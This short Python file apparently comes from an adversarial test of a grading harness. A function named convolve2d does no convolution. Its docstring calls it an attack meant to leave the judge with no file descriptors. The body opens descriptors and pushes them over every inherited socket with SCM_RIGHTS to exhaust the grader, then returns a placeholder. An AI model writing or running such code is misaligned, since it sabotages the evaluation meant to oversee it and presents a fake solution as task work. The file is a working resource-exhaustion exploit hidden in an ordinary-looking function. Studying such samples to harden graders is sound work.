"""Attack: sends a thousand open files along with bytes on every socket.
Wants: a judge without descriptors left.
Honest mark: 8
"""


# %% convolve2d
def convolve2d(image, kernel, stride=1, padding=0):
    import array
    import os
    import socket

    files = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(20)])
    for descriptor in range(3, 64):
        for _ in range(50):
            try:
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, fileno=os.dup(descriptor)) as end:
                    end.sendmsg([b" "], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)], socket.MSG_DONTWAIT)
            except OSError:
                break
    return zero_pad(image, 0)
